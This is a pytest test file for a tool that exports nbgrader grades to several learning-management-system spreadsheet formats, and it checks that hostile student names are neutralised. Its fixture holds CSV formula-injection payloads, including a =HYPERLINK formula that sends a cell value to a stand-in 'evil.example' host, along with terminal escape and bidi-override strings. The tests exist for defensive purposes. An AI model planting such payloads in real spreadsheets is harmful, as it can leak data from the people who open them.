"""Exports: each LMS's documented heading, the values of the gradebook, hostile names, templates, rosters."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from medcoding.cli import main
from medcoding.grading.lms.cells import unguard
from medcoding.grading.lms.grades import Column, Grades, Result, Row, read_grades
from medcoding.grading.lms.roster import Person, Roster
from medcoding.grading.lms.tables import TABLES, Options, canvas, moodle
from minicourse import BIN, MiniCourse
from nbgrader.api import Gradebook

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAMES = [
    ("ada", "Ada", "Lovelace", "ada@example.org"),
    ("bob", FORMULA, "+1-2", "@SUM(1)"),
    ("céline", "Céline\r\nX", "O'Brien, \"Q\"; Jr.\t", "celine@example.org"),
    ("dan", "\x1b[31m\u202eevil", "-5", ""),
]


@pytest.fixture
def book(released: MiniCourse) -> MiniCourse:
    """Four students with the names above; ada full marks but one late, bob half and waiting, céline zero, dan nothing."""
    with Gradebook(f"sqlite:///{released.root / 'gradebook.db'}") as gradebook:
        for student, first, last, email in NAMES:
            gradebook.update_or_create_student(student, first_name=first, last_name=last, email=email)
        for student, points in (("ada", 1.0), ("bob", 0.5), ("céline", 0.0)):
            submission = gradebook.update_or_create_submission(released.assignment, student, timestamp="2026-01-05 10:00:00 UTC")
            for notebook in submission.notebooks:
                for grade in notebook.grades:
                    grade.auto_score, grade.needs_manual_grade = points * grade.max_score, student == "bob"
                notebook.late_submission_penalty = 0.25 if student == "ada" else None
        gradebook.db.commit()
    return released


@pytest.fixture
def run(book: MiniCourse, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Callable[..., tuple[int, str]]:
    monkeypatch.chdir(book.root)

    def run(*words: str) -> tuple[int, str]:
        code = main([str(word) for word in words])
        out = capsys.readouterr()
        return code, out.out + out.err

    return run


def rows_of(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return [{name: unguard(text) for name, text in row.items()} for row in csv.DictReader(file)]


def test_canvas_file_has_the_documented_heading_and_points_row(book: MiniCourse, run: Callable) -> None:
    code, said = run("export", "canvas", "--column", "05=Mini, quoted (12345)")
    assert code == 0
    raw = (book.root / "grades-canvas.csv").read_bytes()
    assert raw.startswith(b'"Student","ID","SIS User ID","SIS Login ID","Section","Mini, quoted (12345)"\r\n"    Points Possible","","","","","5"\r\n')
    rows = {row["SIS Login ID"]: row for row in rows_of(book.root / "grades-canvas.csv")[1:]}
    assert {student: row["Mini, quoted (12345)"] for student, row in rows.items()} == {"ada": "4.5", "bob": "", "céline": "0", "dan": ""}
    assert rows["bob"]["Student"] == f"+1-2, {FORMULA}", "a hostile name comes back as it was"
    assert rows["céline"]["Student"] == "O'Brien, \"Q\"; Jr. , Céline X"
    assert rows["dan"]["Student"] == "-5, \ufffd[31m\ufffdevil"
    assert "1 wait for a grader (bob)" in said and "\x1b" not in said


@pytest.mark.parametrize("form", ["canvas", "moodle", "blackboard", "brightspace", "csv"])
def test_no_cell_of_any_format_can_be_a_formula(book: MiniCourse, run: Callable, form: str) -> None:
    assert run("export", form, "--to", "out.csv", "--provisional", "--missing", "zero")[0] == 0
    with open(book.root / "out.csv", newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert cells and not [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_moodle_file_identifies_everybody_by_the_same_column(book: MiniCourse, run: Callable) -> None:
    run("export", "moodle", "--missing", "zero", "--provisional")
    rows = rows_of(book.root / "grades-moodle.csv")
    assert list(rows[0]) == ["First name", "Last name", "Username", "05-mini"], "not everybody has a sound email, so that column is not offered"
    assert {row["Username"]: row["05-mini"] for row in rows} == {"ada": "4.5", "bob": "2.5", "céline": "0", "dan": "0"}


def test_blackboard_file_is_utf16_with_tabs_or_commas_in_a_csv(book: MiniCourse, run: Callable) -> None:
    heading = "Mini [Total Pts: 5 Score] |987"
    run("export", "blackboard", "--column", f"05={heading}")
    raw = (book.root / "grades-blackboard.xls").read_bytes()
    assert raw[:2] == b"\xff\xfe"
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-16"), newline=""), delimiter="\t"))
    assert list(rows[0]) == ["Last Name", "First Name", "Username", "Student ID", heading]
    assert {row["Username"]: row[heading] for row in rows} == {"ada": "4.5", "bob": "", "céline": "0", "dan": ""}
    run("export", "blackboard", "--to", "bb.csv")
    assert (book.root / "bb.csv").read_bytes().startswith(b'"Last Name","First Name","Username","Student ID","05-mini"\r\n')


def test_brightspace_file_ends_every_row_with_its_indicator(book: MiniCourse, run: Callable) -> None:
    run("export", "brightspace")
    rows = rows_of(book.root / "grades-brightspace.csv")
    assert list(rows[0]) == ["OrgDefinedId", "Username", "05-mini Points Grade", "End-of-Line Indicator"]
    assert {row["End-of-Line Indicator"] for row in rows} == {"#"}
    assert {row["Username"]: row["05-mini Points Grade"] for row in rows} == {"#ada": "4.5", "#bob": "", "#céline": "0", "#dan": ""}


def test_plain_csv_has_nbgraders_columns_and_survives_any_name(book: MiniCourse, run: Callable) -> None:
    run("export", "csv", "--assignment", "05", "--student", "ada", "--student", "bob")
    rows = rows_of(book.root / "grades.csv")
    assert list(rows[0])[:11] == [
        "assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email", "raw_score", "late_submission_penalty", "score", "max_score",
    ]
    by = {row["student_id"]: row for row in rows}
    assert set(by) == {"ada", "bob"}
    assert [by["ada"][name] for name in ("raw_score", "late_submission_penalty", "score", "max_score")] == ["5", "0.5", "4.5", "5"]
    assert (by["bob"]["first_name"], by["bob"]["email"], by["bob"]["needs_manual_grade"]) == (FORMULA, "@SUM(1)", "yes")


def test_excel_workbook_keeps_text_text_and_numbers_numbers(book: MiniCourse, run: Callable) -> None:
    from openpyxl import load_workbook

    run("export", "excel", "--to", "g.xlsx")
    loaded = load_workbook(book.root / "g.xlsx")
    grades = loaded["Grades"]
    header = [cell.value for cell in grades[1]]
    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in grades.iter_rows(min_row=2)}
    assert rows["bob"]["first_name"].value == FORMULA
    assert rows["bob"]["first_name"].data_type == "s" and rows["bob"]["first_name"].quotePrefix
    assert rows["ada"]["05-mini"].value == 4.5 and rows["ada"]["05-mini"].data_type == "n"
    assert rows["dan"]["05-mini"].value is None and rows["dan"]["last_name"].value == "-5"
    with zipfile.ZipFile(book.root / "g.xlsx") as parts:
        assert not any(b"<f>" in parts.read(name) for name in parts.namelist()), "no formula in the file"
    results = [[cell.value for cell in row] for row in loaded["Results"].iter_rows(min_row=2)]
    assert [row[7:11] for row in results if row[3] == "ada"] == [[5, 0.5, 4.5, 5]]


@pytest.mark.cycle
def test_nbgraders_own_command_takes_the_exporter(book: MiniCourse) -> None:
    done = subprocess.run(
        [str(BIN / "nbgrader"), "export", "--exporter=medcoding.grading.lms.CanvasExport", "--to", "n.csv", "--assignment", "['05-mini']"],
        cwd=book.root, capture_output=True, text=True, check=False, timeout=300, env={**os.environ, "PATH": f"{BIN}:{os.environ['PATH']}"},
    )
    assert done.returncode == 0, done.stderr
    assert rows_of(book.root / "n.csv")[1]["Student"] == f"+1-2, {FORMULA}"


def test_canvas_template_gets_its_column_filled_and_keeps_the_rest(book: MiniCourse, run: Callable) -> None:
    template = book.root / "canvas.csv"
    template.write_text(
        "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Other (11),05-mini (22),Final Score\n"
        "    Points Possible,,,,,10,100,(read only)\n"
        '"Lovelace, Ada",1,S1,ada,A,-3.5,,50\n'
        '"=""=1+1""",2,S2,bob,A,7,1,\n'
        "Nobody,3,S3,zed,A,7,,\n"
        "O'Brien,4,S4,céline,B,7,EX,\n",
        encoding="utf-8",
    )
    code, said = run("export", "canvas", "--template", template, "--provisional", "--to", "filled.csv")
    assert code == 0, said
    with open(book.root / "filled.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Other (11)", "05-mini (22)", "Final Score"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "10", "100", "(read only)"]
    assert rows[2] == ["Lovelace, Ada", "1", "S1", "ada", "A", "-3.5", "4.5", "50"]
    assert rows[3] == ["'=\"=1+1\"", "2", "S2", "bob", "A", "7", "2.5", ""]
    assert rows[4][6] == "" and rows[5][6] == "EX"
    for line in ("100 possible points there and 5 here", "Nobody: is nobody", "céline: 05-mini stays EX", "dan: has no row in the template"):
        assert line in said


def test_template_without_the_column_says_which_there_are(book: MiniCourse, run: Callable) -> None:
    template = book.root / "canvas.csv"
    template.write_text("Student,ID,SIS User ID,SIS Login ID,Section,Quiz (11)\nLovelace,1,S1,ada,A,5\n", encoding="utf-8")
    code, said = run("export", "canvas", "--template", template)
    assert code == 1 and "no column called '05-mini'" in said and "Quiz (11)" in said
    assert not (book.root / "grades-canvas.csv").exists(), "nothing half-written"
    assert run("export", "canvas", "--template", template, "--column", "05=Quiz")[0] == 0
    assert rows_of(book.root / "grades-canvas.csv")[0]["Quiz (11)"] == "4.5"


def test_brightspace_and_blackboard_templates_are_filled_too(book: MiniCourse, run: Callable) -> None:
    template = book.root / "d2l.csv"
    template.write_text("OrgDefinedId,Username,05-mini Points Grade <Numeric MaxPoints:5>,End-of-Line Indicator\n#007,#ada,,#\n", encoding="utf-8")
    assert run("export", "brightspace", "--template", template, "--to", "d.csv")[0] == 0
    assert (book.root / "d.csv").read_text().splitlines()[1] == '"#007","#ada","4.5","#"'
    template = book.root / "bb.xls"
    template.write_bytes('"Last Name"\t"First Name"\t"Username"\t"05-mini [Total Pts: 5 Score] |9"\r\n"L"\t"A"\t"ada"\t""\r\n'.encode("utf-16"))
    assert run("export", "blackboard", "--template", template, "--to", "b.csv")[0] == 0
    assert (book.root / "b.csv").read_text().splitlines()[1] == '"L","A","ada","4.5"'


def test_unknown_assignment_and_student_are_named_with_what_there_is(book: MiniCourse, run: Callable) -> None:
    code, said = run("export", "csv", "--student", "eve")
    assert code == 1 and "No student eve" in said and "ada" in said
    code, said = run("export", "csv", "--assignment", "77")
    assert code == 1 and "05-mini" in said


GRADES = Grades(
    (Column("hw", 10),),
    tuple(Row(name, name.title(), "X", f"{name}@x.org", {"hw": Result(points, 0, 10)}) for name, points in (("ada", 7), ("bob", 8), ("cy", 9))),
)


def test_roster_gives_ids_and_leaves_out_whom_it_does_not_name() -> None:
    roster = Roster((Person(student="ada", canvas_id="11", section="A"), Person(student="bob", sis_login_id="=bad"), Person(student="zoe", canvas_id="9")))
    sheet = canvas(GRADES, roster, Options())
    assert [row[1:] for row in sheet.rows[2:]] == [["11", "", "", "A", "7"]]
    assert [line.split(":")[0] for line in sheet.left_out] == ["cy", "bob"]
    assert "begins like a formula" in sheet.left_out[1]


def test_moodle_never_writes_a_blank_key_which_would_grade_the_line_before() -> None:
    roster = Roster((Person(student="ada", id_number="1"), Person(student="bob", id_number="2"), Person(student="cy", username="cy")))
    grades = Grades(GRADES.columns, tuple(Row(row.student, row.first_name, row.last_name, "", row.results) for row in GRADES.rows))
    sheet = moodle(grades, roster, Options())
    assert sheet.rows == [["First name", "Last name", "ID number", "hw"], ["Ada", "X", "1", "7"], ["Bob", "X", "2", "8"]]
    assert sheet.left_out == ["cy: has no ID number, by which most are found; name it in the roster."]


@pytest.mark.parametrize("form", sorted(TABLES))
def test_empty_gradebook_gives_a_heading_alone(form: str) -> None:
    sheet = TABLES[form](Grades((), ()), Roster(), Options())
    assert len(sheet.rows) == (2 if form == "canvas" else 1) and sheet.left_out == []


def test_penalty_never_makes_a_grade_negative() -> None:
    assert Result(2, 5, 10).score == 0


def test_grades_are_those_of_nbgraders_own_properties(book: MiniCourse) -> None:
    with Gradebook(f"sqlite:///{book.root / 'gradebook.db'}") as gradebook:
        odd = gradebook.find_grade("which-order", "one", book.assignment, "ada")
        odd.manual_score, odd.extra_credit = 0.25, 2.0
        gradebook.find_grade("second-notebook-choice", "two", book.assignment, "céline").auto_score = None
        gradebook.db.commit()
        found = {row.student: row.results for row in read_grades(gradebook).rows}
        own = {one.student_id: one for one in gradebook.assignment_submissions(book.assignment)}
        assert set(own) == {student for student, results in found.items() if results}
        for student, one in own.items():
            result = found[student][book.assignment]
            assert (result.raw, result.penalty, result.waits, result.submitted, result.possible) == (
                one.score, one.late_submission_penalty, one.needs_manual_grade, one.timestamp, one.max_score,
            )
        assert found["ada"][book.assignment].raw == 6.25
